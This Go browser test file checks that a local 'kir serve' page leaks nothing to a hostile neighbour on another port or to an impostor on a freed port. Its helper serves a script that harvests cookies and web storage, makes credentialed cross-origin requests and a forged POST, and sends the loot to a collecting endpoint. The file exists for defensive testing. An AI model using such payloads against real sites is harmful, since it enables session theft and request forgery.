package browser_test

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// A neighbour is somebody else on the machine, who listens at another port of the same address and
// keeps all that browsers send there.
type neighbour struct {
	*httptest.Server
	mu   sync.Mutex
	sent []*http.Request
	loot []string // what the scripts of its page could read
}

// newNeighbour begins to listen. Its page takes what it can of the page that is served at an address.
func newNeighbour(t *testing.T, of string) *neighbour {
	n := new(neighbour)
	n.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		n.mu.Lock()
		defer n.mu.Unlock()
		n.sent = append(n.sent, r)
		if r.URL.Path == "/loot" {
			n.loot = append(n.loot, string(body))
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!doctype html><title>neighbour</title><iframe name="frame" src="%[1]s"></iframe><img src="%[1]slist"><form id="form" method="POST" action="%[1]sopen" target="frame"></form>
<script type="module">
const loot = {cookie: document.cookie, session: {...sessionStorage}, local: {...localStorage}, opener: String(window.opener), referrer: document.referrer};
for (const [path, options] of [['', {}], ['list', {credentials: 'include'}], ['text?step=1', {credentials: 'include', mode: 'no-cors'}], ['open', {method: 'POST', credentials: 'include'}],
  ['do', {method: 'POST', credentials: 'include', headers: {'Content-Type': 'text/plain'}, body: '{"do":"ban","ingredient":"Gin"}'}]])
  loot[path] = await fetch('%[1]s' + path, options).then(r => r.text()).catch(e => '');
loot.script = await import('%[1]sjs/server.js').then(m => Object.keys(m).join()).catch(e => '');
try { loot.frame = frames.frame.document.body.innerHTML; loot.frameSession = {...frames.frame.sessionStorage}; } catch { }
await fetch('/loot', {method: 'POST', body: JSON.stringify(loot)});
document.getElementById('form').submit();
document.title = 'done';
</script>`, of)
	}))
	t.Cleanup(n.Close)
	return n
}

// TestServeBesideANeighbour: whoever listens at another port of this address gets nothing from the
// owner's browser that opens the page, neither when the browser goes there, nor by a link from the
// page, nor by a page of theirs that asks for this one; and a program that the problem would run is
// not run by what they got.
func TestServeBesideANeighbour(t *testing.T) {
	file := drinkProblem(t)
	w := &walk{t, browser(t, chromium(t), onlyFonts(t, "Liberation Sans", "fonts-liberation"))}
	address := serveProblem(t, file)
	origin := address[:strings.IndexByte(address[len("http://"):], '/')+len("http://")+1]
	if err := chromedp.Do(w.ctx, chromedp.Navigate(address)); err != nil {
		t.Fatal(err)
	}
	w.is("the page", "document.getElementById('title').textContent === 'A long drink'")
	w.is("an address without its token", "location.href === '"+origin+"'")
	w.is("no cookie", "document.cookie === ''")

	n := newNeighbour(t, origin)
	// By a tab of its own, by a link from the page, and in the tab of the page.
	second, cancel := chromedp.NewContext(w.ctx)
	defer cancel()
	if err := chromedp.Do(second, chromedp.Navigate(n.URL+"/tab")); err != nil {
		t.Fatal(err)
	}
	(&walk{t, second}).is("a tab of the neighbour's", "document.title === 'done'")
	w.does("const a = document.createElement('a'); a.href = '" + n.URL + "/link'; a.rel = 'opener'; document.body.append(a); a.click()")
	w.is("the neighbour's page", "document.title === 'done'")
	if err := chromedp.Do(w.ctx, chromedp.Navigate(origin)); err != nil {
		t.Fatal(err)
	}
	w.is("the page again", "document.getElementById('title')?.textContent === 'A long drink'")

	n.mu.Lock()
	sent, loot := n.sent, strings.Join(n.loot, "\n")
	n.mu.Unlock()
	if len(sent) < 4 {
		t.Fatalf("the neighbour received %d requests", len(sent))
	}
	for _, secret := range []string{"A long drink", "liking", "Gin", "kir key", "token"} {
		if strings.Contains(loot, secret) {
			t.Errorf("the neighbour's page could read %q", secret)
		}
	}
	words := strings.Fields(loot)
	for _, r := range sent {
		if cookies := r.Header.Get("Cookie"); strings.Contains(cookies, "kir") {
			t.Errorf("%s receives the cookies %q", r.URL, cookies)
		}
		if from := r.Referer(); strings.HasPrefix(from, origin) {
			t.Errorf("%s receives the referrer %q", r.URL, from)
		}
		for _, values := range r.Header {
			words = append(words, strings.FieldsFunc(strings.Join(values, " "), func(c rune) bool { return strings.ContainsRune(" =;,", c) })...)
		}
	}

	// What was got is tried, as it came and as a key.
	mark := filepath.Join(t.TempDir(), "ran")
	problem := "total: 10\ningredients: [A, B]\nsparsity: {uniform: [1, 2]}\nproperties: {p: {program: {command: [touch, " + mark + "]}}}\n"
	var heads []http.Header
	for _, r := range sent {
		h := r.Header.Clone()
		for _, name := range []string{"Origin", "Sec-Fetch-Site", "Content-Length", "Accept-Encoding"} {
			h.Del(name)
		}
		heads = append(heads, h)
	}
	for _, word := range words {
		heads = append(heads, http.Header{"Authorization": {"Bearer " + strings.Trim(word, `"{}:,`)}})
	}
	for _, head := range heads {
		for _, request := range []map[string]any{{"do": "text", "step": 1, "text": problem}, {"do": "allow", "text": "all"}} {
			body, err := json.Marshal(request)
			if err != nil {
				t.Fatal(err)
			}
			r, err := http.NewRequest("POST", origin+"do", strings.NewReader(string(body)))
			if err != nil {
				t.Fatal(err)
			}
			r.Header = head.Clone()
			r.Header.Set("Content-Type", "application/json")
			answer, err := http.DefaultClient.Do(r)
			if err != nil {
				continue // it is not even listened to
			}
			if answer.Body.Close(); answer.StatusCode != http.StatusForbidden {
				t.Fatalf("the neighbour's %v is answered with %s, by %v", request["do"], answer.Status, head)
			}
		}
	}
	time.Sleep(100 * time.Millisecond)
	if _, err := os.Stat(mark); err == nil {
		t.Error("the neighbour ran a program")
	}
	w.is("the problem as it was", "document.getElementById('title').textContent === 'A long drink'")
}

// TestServeTabs: a tab keeps the key when it is loaded again, an address opens one tab, and a tab
// without the key says what to do, also where kir was started again.
func TestServeTabs(t *testing.T) {
	file := drinkProblem(t)
	w := &walk{t, browser(t, chromium(t), onlyFonts(t, "Liberation Sans", "fonts-liberation"))}
	address, kill := servedUntil(t, "", file)
	origin, _, _ := strings.Cut(address, "#")
	goes := func(w *walk, to string) {
		t.Helper()
		if err := chromedp.Do(w.ctx, chromedp.Navigate(to)); err != nil {
			t.Fatal(err)
		}
	}
	shown := "document.getElementById('title')?.textContent === 'A long drink'"
	locked := "/Open the last address that kir serve printed/.test(document.getElementById('locked')?.textContent)"
	goes(w, address)
	w.is("the page", shown)
	w.does("location.reload()")
	w.is("the page, loaded again", shown)
	goes(w, address)
	w.is("the page, by its address once more", shown)
	ctx, cancel := chromedp.NewContext(w.ctx)
	defer cancel()
	other := &walk{t, ctx}
	goes(other, address)
	other.is("no page by an address that was opened", locked+" && !/token/.test(location.href)")
	goes(other, origin)
	other.is("no page without a token", locked)
	kill()
	w.is("that kir has ended", "document.getElementById('phase').className === 'gone'")
	address, _ = servedUntil(t, "", file)
	if !strings.HasPrefix(address, origin) {
		t.Fatalf("the page was at %s, and is at %s", origin, address)
	}
	w.is("that kir was started again", "document.getElementById('phase').className === 'refused' && /Open the address/.test(document.getElementById('phase').textContent)")
	// The new address, put into the tab that is open, changes its fragment alone.
	w.does("location.href = '" + address + "'")
	w.is("the page of the new address", shown+" && !/token/.test(location.href) && !['gone', 'refused'].includes(document.getElementById('phase').className)")
}

// TestServeAfterItsEnd: whoever listens at the port of a kir that has ended receives nothing that was
// typed in a page that stayed open, and the page shows nothing of theirs.
func TestServeAfterItsEnd(t *testing.T) {
	w := &walk{t, browser(t, chromium(t), onlyFonts(t, "Liberation Sans", "fonts-liberation"))}
	address, kill := servedUntil(t, "", drinkProblem(t))
	host, _, _ := strings.Cut(strings.TrimPrefix(address, "http://"), "/")
	if err := chromedp.Do(w.ctx, chromedp.Navigate(address)); err != nil {
		t.Fatal(err)
	}
	w.is("labels", "!document.getElementById('next').disabled && document.getElementById('next').textContent === 'Choose batch'")
	w.opens("campaign")
	w.click("#next")
	w.is("a batch", "document.querySelectorAll('#batches .card').length === 3")
	kill()
	w.is("that kir has ended", "document.getElementById('phase').className === 'gone'")
	w.does(field("B1-1", "liking") + ".focus()")
	w.types("6174")
	var listener net.Listener
	var err error
	for range 100 {
		if listener, err = net.Listen("tcp", host); err == nil {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	streams, bodies := 0, ""
	impostor := &http.Server{Handler: http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		mu.Lock()
		bodies += string(body)
		if r.URL.Path == "/events" {
			streams++
		}
		mu.Unlock()
		rw.Header().Set("Content-Type", "text/event-stream")
		fmt.Fprint(rw, "event: pages\ndata: 7\n\n")
	})}
	go impostor.Serve(listener)
	defer impostor.Close()
	for range 200 {
		mu.Lock()
		enough := streams > 1
		mu.Unlock()
		if enough {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	w.does(field("B1-2", "liking") + ".focus()")
	w.types("6175")
	w.does("dispatchEvent(new Event('pagehide'))")
	time.Sleep(300 * time.Millisecond)
	mu.Lock()
	defer mu.Unlock()
	if streams < 2 || strings.Contains(bodies, "617") {
		t.Errorf("of %d streams the listener received %q", streams, bodies)
	}
	w.is("that kir has ended, still", "document.getElementById('phase').className === 'gone' && document.getElementById('pages').hidden")
}
